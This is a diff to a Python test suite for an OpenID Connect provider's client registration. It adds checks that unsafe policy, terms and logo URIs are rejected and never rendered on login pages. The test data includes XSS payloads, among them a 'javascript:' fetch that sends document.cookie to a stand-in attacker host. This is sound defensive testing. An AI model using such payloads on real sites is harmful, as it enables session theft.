@@ -3,6 +3,8 @@ access token, and RFC 7592 management with the registration access token, as
 an integrator's tooling sees it."""
 
 import datetime as dt
+import html
+import re
 import time
 from concurrent.futures import ThreadPoolExecutor
 
@@ -200,6 +202,11 @@ def test_bad_metadata_values_are_invalid_client_metadata(provider):
         # Framed by the provider's logged-out page: the client's own origin only (Front-Channel Logout 2).
         {"frontchannel_logout_uri": "https://victim.example.org/settings/delete-account?confirm=yes"},
         {"frontchannel_logout_uri": "https://grants.example.tw:8443/logout"},
+        # The login pages link to these: only the client's https pages, never a script to run.
+        {"policy_uri": "javascript:alert(document.cookie)"},
+        {"tos_uri#en": "http://grants.example.tw/terms"},
+        {"logo_uri": "data:image/svg+xml,<svg onload=alert(1)>"},
+        {"client_uri": "https://grants.example.tw/\"><script>"},
     ):
         _error(_register(http, token, {"redirect_uris": [APP], **meta}), 400, "invalid_client_metadata")
     assert _count_clients(provider) == 0
@@ -229,6 +236,40 @@ def test_metadata_the_provider_does_not_know_is_not_registered(provider):
     assert "future_feature" not in info and "initiate_login_uri" not in info and "application_type" not in info
     assert info["client_name#en"] == "Research grants" and info["frontchannel_logout_uri"].endswith("/logout")
     assert "future_feature" not in _manage(provider.http(), info).json()
+
+
+def _client_pages(page) -> dict:
+    """The client's pages the login page links to: {"policy"|"terms": (href, text)}."""
+    found = re.findall(r'<a href="([^"]+)" target="_blank" rel="noopener noreferrer" data-client-page="(\w+)">([^<]*)</a>',
+                       page.text)
+    return {kind: (html.unescape(href), text) for href, kind, text in found}
+
+
+def test_the_login_and_consent_pages_link_the_clients_policy_and_terms(provider):
+    """OIDC Registration 1.0 2: policy_uri and tos_uri the provider SHOULD show the user, here
+    with the client's name, in the page's language (RFC 7591 2.2)."""
+    provider.account("alice")
+    info = _registered(provider, policy_uri="https://grants.example.tw/privacy?lang=zh&v=2",
+                       tos_uri="https://grants.example.tw/terms", **{"policy_uri#en": "https://grants.example.tw/en/privacy"})
+    browser = provider.browser()
+    page = browser.authorize(info["client_id"], APP)
+    assert _client_pages(page) == {"policy": ("https://grants.example.tw/privacy?lang=zh&v=2", "「研究計畫系統」隱私權政策"),
+                                   "terms": ("https://grants.example.tw/terms", "「研究計畫系統」服務條款")}
+    consent = browser.password(page)
+    assert "/login/consent" in consent.text and _client_pages(consent) == _client_pages(page)
+    english = provider.browser().authorize(info["client_id"], APP, ui_locales="en")
+    assert _client_pages(english) == {"policy": ("https://grants.example.tw/en/privacy", "Privacy policy of “研究計畫系統”"),
+                                      "terms": ("https://grants.example.tw/terms", "Terms of service of “研究計畫系統”")}
+    assert _client_pages(provider.browser().authorize(_registered(provider)["client_id"], APP)) == {}
+
+
+def test_a_policy_link_stored_before_links_were_checked_is_not_shown(provider):
+    info = _registered(provider, tos_uri="https://grants.example.tw/terms")
+    with provider.svc.db.session() as session:
+        row = session.get(Client, info["client_id"])
+        row.metadata_ = {**row.metadata_, "policy_uri": "javascript:fetch('//evil.example/'+document.cookie)"}
+    page = provider.browser().authorize(info["client_id"], APP)
+    assert list(_client_pages(page)) == ["terms"] and "javascript:" not in page.text
 
 
 def test_a_client_that_names_no_id_token_algorithm_is_told_the_one_its_tokens_carry(provider):
